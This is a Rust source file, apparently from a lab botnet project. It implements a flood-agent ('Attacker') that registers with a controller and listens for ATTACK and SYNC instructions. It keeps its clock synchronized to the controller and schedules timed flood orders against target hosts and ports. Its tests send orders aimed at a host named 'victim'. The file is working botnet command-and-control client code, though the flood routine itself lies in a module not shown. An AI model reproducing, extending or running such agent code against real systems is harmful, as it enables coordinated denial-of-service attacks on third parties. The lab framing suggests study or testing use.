use crate::clock::AdjustedClock;
use crate::config::LabConfig;
use crate::net::agent::{AgentFactory, ConnectionAgent, SessionContext};
use crate::net::exchange::LineSender;
use crate::net::listener::ListenerService;
use crate::net::request::{self, LogErrorHandler};
use crate::net::NetError;
use crate::protocol::Command;
use crate::registry::PeerAddr;
use crate::schedule::{AttackOrder, AttackSchedule};
use async_trait::async_trait;
use std::net::SocketAddr;
use std::sync::Arc;

/// The flood-agent role: listens for instructions from the controller,
/// keeps the pending-order schedule ticking, and announces itself to the
/// controller's registrar on start/stop.
pub struct Attacker {
    controller: PeerAddr,
    listener: ListenerService,
    schedule: AttackSchedule,
    clock: Arc<AdjustedClock>,
    listen_port: Option<u16>,
}

impl Attacker {
    pub fn new(controller: PeerAddr, config: &LabConfig) -> Self {
        let clock = Arc::new(AdjustedClock::new());
        let schedule = AttackSchedule::new(
            clock.clone(),
            config.tick_interval_ms,
            config.payload_interval_ms,
        );
        Attacker {
            controller,
            listener: ListenerService::new(),
            schedule,
            clock,
            listen_port: None,
        }
    }

    /// Starts the instruction listener and the scheduler tick, then
    /// subscribes with the controller, declaring the listen port.
    pub async fn start(&mut self, port: u16) -> Result<SocketAddr, NetError> {
        let schedule = self.schedule.clone();
        let clock = self.clock.clone();
        let factory: Arc<dyn AgentFactory> = Arc::new(move |_ctx: &SessionContext| {
            Box::new(BotAgent {
                schedule: schedule.clone(),
                clock: clock.clone(),
            }) as Box<dyn ConnectionAgent>
        });
        let local_addr = self.listener.listen(factory, port).await?;
        self.listen_port = Some(local_addr.port());
        self.schedule.start();

        request::send(
            self.controller.host.clone(),
            self.controller.port,
            Box::new(RegistrarRequester {
                declared_port: local_addr.port(),
                register: true,
            }),
            Arc::new(LogErrorHandler),
        );
        Ok(local_addr)
    }

    /// Closes the listener, cancels the tick (in-flight floods observe the
    /// signal and wind down), forgets pending orders, and tells the
    /// controller to drop this agent.
    pub async fn stop(&mut self) -> Result<(), NetError> {
        self.listener.close()?;
        self.schedule.cancel();
        self.schedule.clear().await;
        if let Some(declared_port) = self.listen_port.take() {
            request::send(
                self.controller.host.clone(),
                self.controller.port,
                Box::new(RegistrarRequester {
                    declared_port,
                    register: false,
                }),
                Arc::new(LogErrorHandler),
            );
        }
        Ok(())
    }

    pub fn is_running(&self) -> bool {
        !self.listener.is_closed()
    }

    /// Locally schedules a flood, same as receiving an ATTACK instruction.
    pub async fn schedule_attack(
        &self,
        host: &str,
        port: u16,
        start: &str,
        duration_secs: i64,
    ) -> Result<(), NetError> {
        let line = format!("ATTACK {host} {port} {start} {duration_secs}");
        match Command::parse(&line)? {
            Command::Attack {
                host,
                port,
                start_ms,
                duration_ms,
            } => {
                self.schedule
                    .add(AttackOrder {
                        host,
                        port,
                        start_ms,
                        duration_ms,
                    })
                    .await;
                Ok(())
            }
            _ => unreachable!("ATTACK line parses to an Attack command"),
        }
    }

    pub async fn pending(&self) -> Vec<AttackOrder> {
        self.schedule.list().await
    }

    /// Current offset to the controller's clock, in milliseconds.
    pub fn time_delay_ms(&self) -> i64 {
        self.clock.offset_ms()
    }

    #[cfg(test)]
    pub fn clock(&self) -> &Arc<AdjustedClock> {
        &self.clock
    }
}

/// Dispatches ATTACK/SYNC instruction lines from the controller. Fail-soft:
/// anything else is logged and the connection stays open.
struct BotAgent {
    schedule: AttackSchedule,
    clock: Arc<AdjustedClock>,
}

#[async_trait]
impl ConnectionAgent for BotAgent {
    async fn act(
        &mut self,
        ctx: &mut SessionContext,
        line: Option<&str>,
        _out: &mut LineSender,
    ) -> Result<bool, NetError> {
        let Some(line) = line else {
            return Ok(true);
        };
        match Command::parse(line) {
            Ok(Command::Attack {
                host,
                port,
                start_ms,
                duration_ms,
            }) => {
                self.schedule
                    .add(AttackOrder {
                        host,
                        port,
                        start_ms,
                        duration_ms,
                    })
                    .await;
            }
            Ok(Command::Sync { epoch_ms }) => {
                self.clock.sync_to(epoch_ms);
            }
            Ok(other) => {
                log::warn!(
                    " [{}] command not valid on the instruction channel: {}",
                    ctx.peer_addr,
                    other.to_line()
                );
            }
            Err(e) => {
                log::warn!(" [{}] {e}", ctx.peer_addr);
            }
        }
        Ok(true)
    }
}

/// One-shot announcement to the controller's registrar. The declared host is
/// the outbound socket's local address - the address the controller can
/// actually dial back.
struct RegistrarRequester {
    declared_port: u16,
    register: bool,
}

#[async_trait]
impl ConnectionAgent for RegistrarRequester {
    async fn act(
        &mut self,
        ctx: &mut SessionContext,
        line: Option<&str>,
        out: &mut LineSender,
    ) -> Result<bool, NetError> {
        if line.is_none() {
            let command = if self.register {
                Command::Subscribe {
                    host: ctx.local_addr.ip().to_string(),
                    port: self.declared_port,
                }
            } else {
                Command::Cancel {
                    host: ctx.local_addr.ip().to_string(),
                    port: self.declared_port,
                }
            };
            let line = command.to_line();
            log::info!(" to controller {}: {line}", ctx.peer_addr);
            out.send_line(&line).await?;
        }
        Ok(false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;
    use tokio::io::AsyncWriteExt;

    fn attacker_for(controller_port: u16) -> Attacker {
        Attacker::new(
            PeerAddr::new("127.0.0.1", controller_port),
            &LabConfig::default(),
        )
    }

    #[tokio::test]
    async fn test_attack_instruction_lands_in_pending_set() {
        // No controller needed; the subscribe request just fails through the
        // log handler.
        let mut attacker = attacker_for(1);
        let addr = attacker.start(0).await.unwrap();

        let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", addr.port()))
            .await
            .unwrap();
        stream
            .write_all(b"ATTACK victim 8080 2099-01-01T00:00:00Z 2\n")
            .await
            .unwrap();

        for _ in 0..100 {
            if !attacker.pending().await.is_empty() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        let pending = attacker.pending().await;
        assert_eq!(pending.len(), 1);
        assert_eq!(pending[0].host, "victim");
        assert_eq!(pending[0].duration_ms, 2000);
        attacker.stop().await.unwrap();
    }

    #[tokio::test]
    async fn test_sync_instruction_adjusts_clock() {
        let mut attacker = attacker_for(1);
        let addr = attacker.start(0).await.unwrap();

        let remote = chrono::Utc::now().timestamp_millis() + 7_000_000;
        let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", addr.port()))
            .await
            .unwrap();
        stream
            .write_all(format!("SYNC {remote}\n").as_bytes())
            .await
            .unwrap();

        for _ in 0..100 {
            if attacker.time_delay_ms() != 0 {
                break;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        let drift = (attacker.clock().now_ms() - remote).abs();
        assert!(drift < 2000, "drift was {drift}ms");
        attacker.stop().await.unwrap();
    }

    #[tokio::test]
    async fn test_stop_clears_pending_and_double_stop_fails() {
        let mut attacker = attacker_for(1);
        attacker.start(0).await.unwrap();
        attacker
            .schedule_attack("victim", 8080, "2099-01-01T00:00:00Z", 1)
            .await
            .unwrap();
        attacker.stop().await.unwrap();
        assert!(attacker.pending().await.is_empty());
        assert!(matches!(
            attacker.stop().await,
            Err(NetError::AlreadyClosed)
        ));
    }
}
